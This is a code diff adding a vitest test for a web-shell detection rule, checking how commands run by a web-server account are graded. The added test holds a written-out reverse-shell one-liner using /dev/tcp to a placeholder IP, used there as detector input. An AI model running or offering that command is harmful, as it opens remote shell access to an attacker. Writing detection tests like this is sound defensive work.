@@ -1,6 +1,6 @@
 import { describe, expect, test } from "vitest";
 import type { Fact, Process } from "../events/fact.ts";
-import { below, context, grade, process, run, script } from "./testing/root-shell.ts";
+import { below, context, grade, process, ran, run, script } from "./testing/root-shell.ts";
 import { webShellCommand } from "./web-shell.command.ts";
 import { webShellContent } from "./web-shell.content.ts";
 import { webShellFile } from "./web-shell.file.ts";
@@ -41,6 +41,15 @@ describe("a child of a web server", () => {
     const account = { uid: 33, user: "www-data" };
     expect(grade(run(webShellCommand, [script("ps aux", account)]))).toEqual(["low"]);
     expect(run(webShellCommand, [script("perl -e 'print 1'", account)])).toEqual([]);
+  });
+
+  test("a shell of the account alone is a hint, and one on a connection is left to reverse-shell", () => {
+    const account = { uid: 33, user: "www-data" };
+    expect(grade(run(webShellCommand, [ran(["bash", "-i"], account)]))).toEqual(["low"]);
+    expect(grade(run(webShellCommand, [ran(["bash", "-i"], server)]))).toEqual(["high"]);
+    const connects = "bash -i >& /dev/tcp/192.0.2.7/80 0>&1";
+    expect(run(webShellCommand, [script(connects, account)])).toEqual([]);
+    expect(run(webShellCommand, [script(connects, server)])).toHaveLength(1);
   });
 
   test("of a java that says nothing of itself counts only where it reads accounts or secrets", () => {
